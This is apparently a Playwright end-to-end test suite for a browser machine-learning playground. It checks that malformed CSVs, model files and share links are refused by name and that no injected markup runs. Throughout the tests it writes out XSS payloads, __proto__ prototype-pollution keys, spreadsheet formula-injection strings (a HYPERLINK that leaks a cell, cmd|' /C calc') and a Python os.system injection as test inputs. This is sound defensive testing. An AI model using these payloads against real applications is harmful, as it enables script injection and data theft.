import { readFile, writeFile } from 'node:fs/promises';
import { expect, test, type Page } from '@playwright/test';
import { openPlayground, stopIfRunning, waitForEpoch } from './helpers';

/**
 * The bad-input corpus (e2e/fixtures/bad-input/) driven through the UI as a
 * person would: files picked with "Load CSV…" and "Import model", links
 * opened in the address bar. Each item must give a message naming its
 * problem, leave the experiment that was on screen as it was, leave Train
 * working, and run none of the markup it carries: every payload tries to set
 * `window.__pwned`.
 */

const corpus = 'e2e/fixtures/bad-input';

/** Page errors, CSP reports and requests that would only happen if markup from the data had become DOM. */
interface Watch {
  errors: string[];
  injectedRequests: string[];
}

async function watchPage(page: Page): Promise<Watch> {
  const watch: Watch = { errors: [], injectedRequests: [] };
  page.on('pageerror', (error) => watch.errors.push(error.message));
  // `<img src=x>` from the corpus, had it been rendered as HTML, would fetch /x.
  page.on('request', (request) => {
    if (new URL(request.url()).pathname === '/x') watch.injectedRequests.push(request.url());
  });
  // The page's CSP would block an injected inline handler; its report shows the injection happened.
  await page.addInitScript(() => {
    const reports: string[] = [];
    Object.defineProperty(window, '__cspReports', { value: reports });
    document.addEventListener('securitypolicyviolation', (event) => reports.push(`${event.violatedDirective} ${event.blockedURI}`));
  });
  return watch;
}

/** Nothing ran, nothing was injected, nothing threw, nothing was polluted. */
async function expectNothingRan(page: Page, watch: Watch): Promise<void> {
  const seen = await page.evaluate(() => ({
    pwned: (window as unknown as { __pwned?: unknown }).__pwned,
    polluted: (Object.prototype as Record<string, unknown>).polluted,
    csp: (window as unknown as { __cspReports: string[] }).__cspReports,
    injected: document.querySelectorAll('[onerror], [onload], [onclick], iframe, script:not([src]), a[href^="javascript:" i], img[src="x"]').length,
  }));
  expect(seen.pwned, 'window.__pwned').toBeUndefined();
  expect(seen.polluted, 'Object.prototype.polluted').toBeUndefined();
  expect(seen.csp, 'CSP violations').toEqual([]);
  expect(seen.injected, 'elements made from markup in the data').toBe(0);
  expect(watch.injectedRequests, 'requests for injected images').toEqual([]);
  expect(watch.errors, 'page errors').toEqual([]);
}

/** What a person sees of their experiment: it must be the same after refused input. */
async function experimentOnScreen(page: Page) {
  return {
    dataset: await page.getByRole('combobox', { name: 'Dataset' }).inputValue(),
    learningRate: await page.getByRole('slider', { name: 'Learning rate' }).getAttribute('aria-valuetext'),
    earlyStopping: await page.getByRole('checkbox', { name: 'Early stopping' }).isChecked(),
    layers: await page.getByRole('list', { name: 'Layers' }).textContent(),
  };
}

/** Changes the default experiment in three visible ways, so that losing any of them shows. */
async function makeExperiment(page: Page, dataset: string): Promise<void> {
  await page.getByRole('combobox', { name: 'Dataset' }).selectOption(dataset);
  await expect(page.getByRole('button', { name: 'Train' })).toBeEnabled();
  await page.getByRole('slider', { name: 'Learning rate' }).focus();
  await page.keyboard.press('ArrowLeft');
  await page.getByRole('checkbox', { name: 'Early stopping' }).check();
  await page.getByRole('combobox', { name: 'Layer type' }).selectOption('dropout');
  await page.getByRole('button', { name: 'Add layer' }).click();
}

/** Train still starts: one epoch, then stop. */
async function expectTrainWorks(page: Page): Promise<void> {
  await page.getByRole('button', { name: 'Train' }).click();
  await waitForEpoch(page, 1);
  await stopIfRunning(page);
}

const notText = 'This file does not look like text, so it cannot be a CSV.';

/** Each refused CSV of the corpus and the message that names its problem. */
const refusedCsvs: [file: string, message: string][] = [
  ['ragged.csv', 'Row 3 has 2 cells; the first row has 3.'],
  ['header-only.csv', 'The file has a header row but no data rows.'],
  ['empty.csv', 'The file is empty.'],
  ['one-row.csv', 'The file has only one row of data; a model needs many rows to learn from'],
  ['unterminated-quote.csv', 'Row 2 has a quote that is never closed.'],
  ['no-numbers.csv', 'No column can be predicted: each one holds a single value, or text with more than 50 different values'],
  ['nul-bytes.csv', notText],
  ['picture-png.csv', notText],
  ['archive-zip.csv', notText],
];

/** Each refused model file of the corpus and the message that names its problem. */
const refusedModels: [file: string, message: string][] = [
  ['wrong-shapes.json', 'The weights do not match the model: "dense/kernel" has shape [3, 1], but layer 1 needs [2, 1].'],
  ['missing-weights.json', 'The weights do not match the model: it needs 2 weight tensors, the file has 0.'],
  ['short-weights.json', 'The weights do not match the model: it needs 12 bytes of weights, the file has 4.'],
  ['no-weight-data.json', 'The model file is not valid: "weightData" is missing.'],
  ['unknown-layer.json', 'Layer 1 (Lambda): the playground cannot build a Lambda layer'],
  ['markup-layer.json', 'Layer 1 (<img src=x onerror="window.__pwned=1">): the playground cannot build a <img src=x onerror="window.__pwned=1"> layer'],
  ['billion-units.json', 'Layer 1 has 1,000,000,000 units; the playground allows at most 4,096.'],
  ['too-many-layers.json', 'The model has 65 layers; the playground builds at most 64.'],
  ['absurd-config.json', 'The model file is not valid: "playground.config.learningRate" must be at most 10.'],
  ['proto-key.json', 'The file contains the key "__proto__", which is never part of a model; it was not loaded.'],
  ['constructor-key.json', 'The file contains the key "constructor", which is never part of a model; it was not loaded.'],
  ['not-json.json', 'The file is not JSON.'],
  ['truncated.json', 'The file is not JSON. It stops in the middle, as if it was cut off while saving or downloading'],
];

async function importModel(page: Page, path: string): Promise<void> {
  const chooser = page.waitForEvent('filechooser');
  await page.getByRole('button', { name: 'Import model' }).click();
  await (await chooser).setFiles(path);
}

const base64url = (text: string): string => Buffer.from(text).toString('base64url');

test.describe('bad input never breaks the page or loses the experiment', () => {
  test('malformed, binary and oversized CSVs are refused by name; the experiment stays and trains', async ({ page }, testInfo) => {
    const watch = await watchPage(page);
    await openPlayground(page, '?backend=wasm');
    await makeExperiment(page, 'moons');
    const before = await experimentOnScreen(page);

    for (const [file, message] of refusedCsvs) {
      await page.getByLabel('Load CSV…').setInputFiles(`${corpus}/csv/${file}`);
      await expect(page.getByRole('alert').filter({ hasText: `${file}:` }), file).toContainText(`${file}: ${message}`);
      expect(await experimentOnScreen(page), file).toEqual(before);
      await expect(page.getByRole('button', { name: 'Train' }), file).toBeEnabled();
    }

    // 50 MB, made here rather than kept in the repository: refused by its size, without being read.
    const huge = testInfo.outputPath('huge.csv');
    await writeFile(huge, Buffer.alloc(50 * 1024 * 1024, 'x1,x2,y\n0.5,1.5,2\n'));
    const started = Date.now();
    await page.getByLabel('Load CSV…').setInputFiles(huge);
    await expect(page.getByRole('alert').filter({ hasText: 'huge.csv:' })).toContainText(
      'huge.csv: The file is 50.0 MB; the playground reads CSV files of at most 20 MB.',
    );
    expect(Date.now() - started, 'milliseconds to refuse 50 MB').toBeLessThan(5_000);
    expect(await experimentOnScreen(page)).toEqual(before);

    await expectTrainWorks(page);
    await expectNothingRan(page, watch);
  });

  test('markup in CSV headers, cells and the file name is shown as text and never runs', async ({ page }) => {
    const watch = await watchPage(page);
    await openPlayground(page, '?backend=wasm');
    const name = '<img src=x onerror="window.__pwned=1">.csv';
    await page.getByLabel('Load CSV…').setInputFiles({ name, mimeType: 'text/csv', buffer: await readFile(`${corpus}/csv/markup.csv`) });

    const columns = page.getByRole('group', { name: `Columns of ${name}` });
    await expect(columns).toBeVisible();
    await expect(page.getByRole('combobox', { name: 'Dataset' })).toHaveValue('custom');
    const table = columns.getByRole('table', { name: 'Columns' });
    for (const header of ['<img src=x onerror="window.__pwned=1">', '<script>window.__pwned=1</script>', 'kind', 'label']) {
      await expect(table.getByRole('cell', { name: header, exact: true }), header).toBeVisible();
    }
    await expect(columns.getByRole('combobox', { name: 'Task' })).toHaveValue('binary');

    await page.getByText('Preview and statistics').click();
    const preview = page.getByRole('table', { name: 'Data preview' });
    await expect(preview.getByRole('columnheader', { name: 'kind=<a href="javascript:window.__pwned=1">link</a>', exact: true })).toBeVisible();
    await expect(preview.getByRole('columnheader', { name: 'kind=<b>bold</b>', exact: true })).toBeVisible();
    await expect(preview.getByRole('cell', { name: '<svg onload="window.__pwned=1">', exact: true }).first()).toBeVisible();
    await expect(preview.getByRole('cell', { name: '<iframe src="javascript:window.__pwned=1">', exact: true }).first()).toBeVisible();

    await expectTrainWorks(page);
    await expectNothingRan(page, watch);
  });

  test('formula cells are text categories, and the Keras script carries them only as quoted strings', async ({ page }) => {
    const watch = await watchPage(page);
    await openPlayground(page, '?backend=wasm');
    await page.getByLabel('Load CSV…').setInputFiles(`${corpus}/csv/formulas.csv`);
    const columns = page.getByRole('group', { name: 'Columns of formulas.csv' });
    // The target's name holds a line break and a line of Python.
    const target = 'label\nimport os; os.system("echo pwned")';
    await expect(columns.getByRole('combobox', { name: 'Target' })).toHaveValue(target);
    await expect(columns.getByRole('combobox', { name: 'Task' })).toHaveValue('binary');
    await expect(columns.getByRole('row', { name: /^note text \(4 values\)/ })).toBeVisible();

    await page.getByText('Preview and statistics').click();
    const preview = page.getByRole('table', { name: 'Data preview' });
    await expect(preview.getByRole('columnheader', { name: 'note==HYPERLINK("http://example.com/?leak="&A1,"Click me")', exact: true })).toBeVisible();
    await expect(preview.getByRole('columnheader', { name: "note=+cmd|' /C calc'!A0", exact: true })).toBeVisible();
    await expect(preview.getByRole('cell', { name: '=1+1', exact: true }).first()).toBeVisible();
    await expect(preview.getByRole('cell', { name: '@SUM(1+1)', exact: true }).first()).toBeVisible();

    await page.getByRole('button', { name: 'Step' }).click();
    await expect(page.getByRole('status')).toHaveText(/^Paused\. Epoch 1\//);
    const downloading = page.waitForEvent('download');
    await page.getByRole('button', { name: 'Export Keras script' }).click();
    const script = await readFile(await (await downloading).path(), 'utf8');
    const lines = script.split('\n');
    expect(lines.filter((line) => /^\s*(import os|[=+\-@])/.test(line)), 'lines that a name from the file turned into code').toEqual([]);
    expect(script).toContain('# Task: binary; target: label import os; os.system("echo pwned"); one-hot encoded: note.');
    expect(script).toContain(`y = df.pop(${JSON.stringify(target)})`);
    expect(script).toMatch(/^classes = \[("=1\+1", "@SUM\(1\+1\)"|"@SUM\(1\+1\)", "=1\+1")\]$/m);
    expect(script).toContain(JSON.stringify("note=+cmd|' /C calc'!A0"));

    await page.getByRole('button', { name: 'Train' }).click();
    await waitForEpoch(page, 2);
    await stopIfRunning(page);
    await expectNothingRan(page, watch);
  });

  test('broken and hostile model files are refused by name; the experiment stays and trains', async ({ page }) => {
    const watch = await watchPage(page);
    await openPlayground(page, '?backend=wasm');
    await makeExperiment(page, 'wine');
    const before = await experimentOnScreen(page);
    const summary = await page.getByRole('table', { name: 'Model summary' }).textContent();

    for (const [file, message] of refusedModels) {
      await importModel(page, `${corpus}/model/${file}`);
      await expect(page.getByRole('alert').filter({ hasText: `${file}:` }), file).toContainText(`${file}: ${message}`);
      expect(await experimentOnScreen(page), file).toEqual(before);
      expect(await page.getByRole('table', { name: 'Model summary' }).textContent(), file).toBe(summary);
      await expect(page.getByRole('status'), file).toHaveText('Ready. Press Train to start.');
    }

    await expectTrainWorks(page);
    await expectNothingRan(page, watch);
  });

  test('hostile and broken links are reported and ignored; the saved experiment stays and trains', async ({ page }) => {
    const watch = await watchPage(page);
    await openPlayground(page, '?backend=wasm');
    await makeExperiment(page, 'xor');
    const before = await experimentOnScreen(page);
    // A real link of this experiment, to bend into hostile ones.
    await page.getByRole('button', { name: 'Copy link' }).click();
    await expect(page).toHaveURL(/#e=/);
    const good = Buffer.from(new URL(page.url()).hash.slice('#e='.length), 'base64url').toString('utf8');
    const snapshot = JSON.parse(good) as { dataset: string; layers: Record<string, unknown>[]; config: Record<string, unknown> };
    const bent = (patch: (s: typeof snapshot) => unknown): string => base64url(JSON.stringify(patch(structuredClone(snapshot))));
    const withConfig = (config: Record<string, unknown>) => bent((s) => ({ ...s, config: { ...s.config, ...config } }));

    const links: [what: string, encoded: string, reason: string][] = [
      ['not base64', '%%%not*base64!!', 'it is not encoded as the playground encodes links'],
      ['base64 of a script, not JSON', base64url('<script>window.__pwned=1</script>'), 'it is not valid JSON'],
      ['a __proto__ key', base64url(`{"__proto__":{"polluted":"yes"},${good.slice(1)}`), 'it contains a key that is never part of an experiment'],
      ['markup as the dataset id', bent((s) => ({ ...s, dataset: '<img src=x onerror="window.__pwned=1">' })), '"dataset" is not one the playground has'],
      ['a script as an activation', bent((s) => ({ ...s, layers: [{ ...s.layers[0], activation: '<script>window.__pwned=1</script>' }] })), '"layers.0.activation" must be one of "relu"'],
      ['a javascript: URL as a layer kind', bent((s) => ({ ...s, layers: [{ kind: 'javascript:window.__pwned=1' }] })), '"layers.0.kind" must be one of "dense"'],
      ['learning rate 1e308', withConfig({ learningRate: 1e308 }), '"config.learningRate" must be at most 10'],
      ['10^12 epochs', withConfig({ epochs: 1e12 }), '"config.epochs" must be at most 10,000'],
      ['a negative batch size', withConfig({ batchSize: -32 }), '"config.batchSize" must be at least 1'],
      ['400 KB', 'A'.repeat(400_000), 'it is 400,000 characters long; a playground link carries at most 20,000'],
    ];
    for (const [what, encoded, reason] of links) {
      // A fresh load each time, as opening a link does (a changed hash alone does not reload).
      await page.goto('about:blank');
      await page.goto(`/?backend=wasm#e=${encoded}`);
      await expect(page.getByRole('alert').filter({ hasText: "The link's experiment" }), what).toContainText(
        `The link's experiment could not be used (${reason}`,
      );
      await expect(page.getByRole('button', { name: 'Train' }), what).toBeEnabled();
      expect(await experimentOnScreen(page), what).toEqual(before);
      await expectNothingRan(page, watch);
    }

    // Unknown fields and markup in layer ids are dropped: the link's experiment itself loads, and nothing runs.
    const decorated = bent((s) => ({
      ...s,
      dataset: 'spiral',
      note: '<svg onload="window.__pwned=1">',
      layers: s.layers.map((layer) => ({ ...layer, id: '<img src=x onerror="window.__pwned=1">', name: '<script>window.__pwned=1</script>' })),
    }));
    await page.goto('about:blank');
    await page.goto(`/?backend=wasm#e=${decorated}`);
    await expect(page.getByRole('combobox', { name: 'Dataset' })).toHaveValue('spiral');
    await expect(page.getByRole('alert')).toHaveCount(0);
    expect((await experimentOnScreen(page)).layers).toBe(before.layers);

    await expectTrainWorks(page);
    await expectNothingRan(page, watch);
  });
});
